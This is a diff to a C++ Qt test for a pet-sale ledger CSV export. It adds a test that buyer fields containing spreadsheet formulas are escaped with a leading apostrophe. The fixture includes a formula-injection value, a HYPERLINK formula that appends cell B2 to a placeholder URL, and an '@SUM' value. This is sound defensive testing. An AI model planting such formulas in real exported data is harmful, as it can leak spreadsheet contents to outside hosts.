@@ -350,15 +350,27 @@ void TestSaleScreens::ledgerReadsBack()
     sale.buyerName = QStringLiteral("山田 花子");
     sale.buyerAddress = QStringLiteral("東京都千代田区1-2-3, 空ハイツ101");
     f->program->sales().saveChartSale(1, sale);
+    // What a buyer's fields could hold to make a spreadsheet open a link or run a formula.
+    ChartSale crafted;
+    crafted.buyerName = QStringLiteral("=HYPERLINK(\"http://x\"&B2,\"詳細\")");
+    crafted.buyerAddress = QStringLiteral("@SUM(A1)");
+    crafted.buyerPhone = QStringLiteral("+81-90-1234-5678");
+    f->program->sales().saveChartSale(2, crafted);
     const QString path = f->path("ledger.csv");
     f->files.setNextAnswer(path);
     action("actSaleLedger")->trigger();
     QVERIFY(f->files.suggested.last().endsWith(QStringLiteral("販売台帳_20261207.csv")));
-    const QList<QStringList> rows = readCsvFile(readFileBytes(path));
+    const QByteArray bytes = readFileBytes(path);
+    const QList<QStringList> rows = readCsvFile(bytes);
     QCOMPARE(rows.size(), 3); // both charts have a sale date
+    QCOMPARE(rows[0], (QStringList{"番号", "種類", "性別", "生年月日", "マイクロチップ番号", "販売日",
+                                   "購入者氏名", "住所", "電話", "説明書交付日"}));
     QCOMPARE(rows[1], (QStringList{"1", "柴犬", "メス", "2024/4/15", Chip, "2024/8/20", "山田 花子",
                                    "東京都千代田区1-2-3, 空ハイツ101", "", ""}));
-    QCOMPARE(rows[2][6], QString());
+    QVERIFY(bytes.endsWith(QStringLiteral("\r\n2,柴犬,メス,2024/4/15,,2024/8/20,"
+                                          "\"'=HYPERLINK(\"\"http://x\"\"&B2,\"\"詳細\"\")\","
+                                          "'@SUM(A1),'+81-90-1234-5678,\r\n")
+                               .toUtf8()));
 }
 
 void TestSaleScreens::deletedChartTakesItsSaleInformation()
